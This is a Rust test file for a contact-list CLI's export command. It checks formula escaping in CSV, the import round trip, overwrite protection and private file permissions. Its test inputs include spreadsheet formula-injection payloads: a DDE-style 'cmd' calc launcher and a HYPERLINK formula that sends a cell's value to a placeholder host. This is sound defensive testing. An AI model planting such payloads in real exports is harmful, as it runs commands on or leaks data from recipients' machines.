//! `purrlist export` through the binary: the same bytes as `GET /v1/contacts/export` in
//! both formats (suppressions included), spreadsheet formulas escaped and the escaping
//! undone by `import` so a round trip gives back exactly what was exported, and `--output`
//! never overwriting a file unless `--force`.

use crate::cli_import::{import, purrlist, text};
use crate::contacts_export::{
    as_exported, assert_rows_are, assert_suppressions_are, csv_rows, export_as, ndjson_contacts,
};
use crate::helpers::*;
use serde_json::{Value, json};
use std::path::Path;
use std::process::Output;

/// Values a spreadsheet would run, or that look escaped already; names refuse TAB and CR.
const NASTY: [&str; 9] = [
    "=1+1",
    "+47 22 00 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "'quoted",
    "'=already escaped?",
    "''two",
    "-5",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
];

/// `purrlist export --workspace <the test workspace> --output <file> <extra>`.
pub fn export_to(app: &TestApp, file: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["export", "--workspace", &app.workspace, "--output"];
    args.push(file.to_str().expect("utf-8 path"));
    args.extend_from_slice(extra);
    purrlist(app, &args)
}

/// The columns that tie an exported contact to the server it came from (ids are unique
/// over a server, so a copy into another workspace of the same server makes new contacts).
const MOVE_COLUMNS: [&str; 4] = ["id", "unsub_token", "createdAt", "updatedAt"];

/// `file`'s export without [`MOVE_COLUMNS`], as a spreadsheet user might keep it.
pub fn without_move_columns(file: &Path) -> tempfile::NamedTempFile {
    let mut reader = csv::Reader::from_path(file).expect("read export");
    let header = reader.headers().expect("header").clone();
    let kept: Vec<usize> = (0..header.len())
        .filter(|&i| !MOVE_COLUMNS.contains(&&header[i]))
        .collect();
    let out = tempfile::NamedTempFile::new().expect("temp file");
    let mut writer = csv::Writer::from_path(out.path()).expect("write");
    writer
        .write_record(kept.iter().map(|&i| &header[i]))
        .expect("header");
    for record in reader.records() {
        let record = record.expect("record");
        writer
            .write_record(kept.iter().map(|&i| &record[i]))
            .expect("row");
    }
    writer.flush().expect("flush");
    out
}

/// What an export and import must keep (no ids, tokens or times), in a stable order.
pub fn content(contacts: Vec<Value>) -> Vec<Value> {
    let mut kept: Vec<Value> = contacts
        .into_iter()
        .map(|c| {
            json!([
                c["email"],
                c["name"],
                c["first_name"],
                c["last_name"],
                c["subscribed"],
                c["custom_fields"]
            ])
        })
        .collect();
    kept.sort_by_key(|c| c[0].to_string());
    kept
}

backend_test!(
    export_escapes_formulas_and_import_gives_them_back_exactly,
    |app| async move {
        let mut contacts: Vec<Value> = NASTY
            .iter()
            .enumerate()
            .map(|(i, nasty)| {
                json!({"email": format!("cat{i}@example.com"), "name": nasty, "last_name": nasty,
                       "custom_fields": {"note": nasty}})
            })
            .collect();
        contacts.push(json!({"email": "=cmd@example.com", "first_name": "@me",
                             "custom_fields": {"tab": "\t=1+1", "cr": "\r=1+1", "lf": "\n=1"}}));
        contacts.push(json!({"email": "-dash@example.com", "subscribed": false}));
        contacts.push(json!({"email": "+plus@example.com"}));
        contacts.push(json!({"email": "'quote@example.com", "name": "'Tis"}));
        app.upsert(Value::Array(contacts)).await;

        let dir = tempfile::tempdir().expect("tempdir");
        let file = dir.path().join("out.csv");
        let out = export_to(&app, &file, &[]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let csv = std::fs::read_to_string(&file).expect("read export");
        // No cell a spreadsheet reads starts a formula: each begins with `'` or is a number.
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        for record in reader.records() {
            for cell in record.expect("record").iter() {
                let first = cell.chars().next();
                assert!(
                    !first.is_some_and(|c| "=+-@\t\r".contains(c)) || cell == "-5",
                    "{cell:?} in {csv}"
                );
            }
        }
        for written in [
            "'=1+1",
            "'+47 22",
            "'-2+3+cmd",
            "'@SUM",
            "''quoted",
            "'''two",
            "''=already",
            "'=cmd@example.com",
            "'-dash@",
            "'@me",
            "'\t=1+1",
            ",-5,",
        ] {
            assert!(csv.contains(written), "{written:?} not in {csv}");
        }
        assert!(csv.contains(",''Tis,"), "a leading ' is escaped too: {csv}");

        let fresh = app.create_workspace().await;
        let copy = without_move_columns(&file);
        let out = import(&app, &fresh, copy.path(), &[]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let original = content(app.list_all().await);
        assert_eq!(original.len(), NASTY.len() + 4);
        assert_eq!(content(app.list_all_of(&fresh).await), original);
    }
);

backend_test!(
    export_refuses_an_existing_file_unless_forced,
    |app| async move {
        app.upsert(json!([{"email": "a@example.com"}])).await;
        let dir = tempfile::tempdir().expect("tempdir");
        let file = dir.path().join("contacts.csv");
        std::fs::write(&file, "precious\n").expect("write");
        let out = export_to(&app, &file, &[]);
        assert!(!out.status.success());
        let err = text(&out.stderr);
        assert!(
            err.contains("already exists") && err.contains("--force"),
            "{err}"
        );
        assert_eq!(std::fs::read_to_string(&file).expect("read"), "precious\n");

        let out = export_to(&app, &file, &["--force"]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let csv = std::fs::read_to_string(&file).expect("read");
        assert!(
            csv.starts_with("id,email,") && csv.contains(",a@example.com,"),
            "{csv}"
        );

        // A new file is private: it holds personal data.
        let new = dir.path().join("new.csv");
        let out = export_to(&app, &new, &[]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(&new)
                .expect("metadata")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
        // --force without --output is a usage error.
        let out = purrlist(&app, &["export", "--workspace", &app.workspace, "--force"]);
        assert!(!out.status.success());
    }
);

backend_test!(
    cli_export_is_the_http_export_in_both_formats_and_one_workspace_only,
    |app| async move {
        app.upsert(json!([
            {"email": "a@example.com", "name": "@A", "custom_fields": {"plan": "pro", "n": 1.5}},
            {"email": "b@example.com", "subscribed": false},
            {"email": "c@example.com"}
        ]))
        .await;
        let suppressed = [
            ("b@example.com", "complained"),
            ("c@example.com", "bounced"),
        ];
        for (email, reason) in suppressed {
            app.suppress(email, reason).await.expect_status(200);
        }
        let other = app.create_workspace().await;
        app.bulk(&json!({"newsletter_id": other, "contacts": [{"email": "theirs@example.com"}]}))
            .await
            .expect_status(200);
        let listed = app.list_all().await;
        let query = |format: &str| format!("newsletter_id={}&format={format}", app.workspace);

        let csv = purrlist(&app, &["export", "--workspace", &app.workspace]);
        assert!(csv.status.success(), "{}", text(&csv.stderr));
        // No progress bar when stderr is not a terminal (its template ends in "left)").
        let err = text(&csv.stderr);
        assert!(!err.contains("left)") && !err.contains('\u{1b}'), "{err}");
        let csv = text(&csv.stdout);
        assert_rows_are(&csv_rows(&csv), &listed);
        assert_suppressions_are(&csv_rows(&csv), &suppressed);
        assert!(!csv.contains("theirs@"), "{csv}");
        assert_eq!(export_as(&app, &app.api_key, &query("csv")).await.text, csv);

        let dir = tempfile::tempdir().expect("tempdir");
        let file = dir.path().join("out.ndjson");
        let out = export_to(&app, &file, &["--format", "ndjson"]);
        assert!(out.status.success(), "{}", text(&out.stderr));
        assert!(
            text(&out.stderr).contains("Exported 3 contact(s)"),
            "{}",
            text(&out.stderr)
        );
        let ndjson = std::fs::read_to_string(&file).expect("read");
        assert_eq!(ndjson_contacts(&ndjson), as_exported(&listed, &suppressed));
        assert_eq!(
            export_as(&app, &app.api_key, &query("ndjson")).await.text,
            ndjson
        );

        let out = purrlist(
            &app,
            &["export", "--workspace", &app.workspace, "--format", "xlsx"],
        );
        assert!(!out.status.success());
        assert!(
            text(&out.stderr).contains("csv or ndjson"),
            "{}",
            text(&out.stderr)
        );
    }
);
